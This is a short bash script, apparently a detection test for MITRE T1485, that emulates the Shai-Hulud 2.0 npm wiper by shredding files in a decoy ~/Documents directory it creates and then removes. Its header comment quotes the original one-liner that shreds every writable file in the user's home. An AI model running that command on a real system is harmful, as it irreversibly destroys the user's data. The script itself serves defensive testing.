#!/bin/bash
# technique: T1485 Data Destruction
# reproduces: Shai-Hulud 2.0 (npm, November 2025): when it found no token to steal, its preinstall payload wiped the user's home: `find "$HOME" -type f -writable -user "$(id -un)" -print0 | xargs -0 -r shred -uvz -n 1`
# expect: data-destruction ^shred$
# exec-borne: no
#
# Wipes only a decoy directory it makes in $HOME (the fake credentials
# stay as they were).
set -u

DECOY="${HOME:?}/Documents"
[ -e "$DECOY" ] && { echo "$DECOY exists; not touching it" >&2; exit 1; }
trap 'rm -rf "$DECOY"' EXIT
mkdir -p "$DECOY/notes"
for i in 1 2 3; do echo "draft $i" >"$DECOY/notes/n$i.txt"; done

find "$DECOY" -type f -writable -user "$(id -un)" -print0 | xargs -0 -r shred -uz -n 1
find "$DECOY" -depth -type d -empty -delete
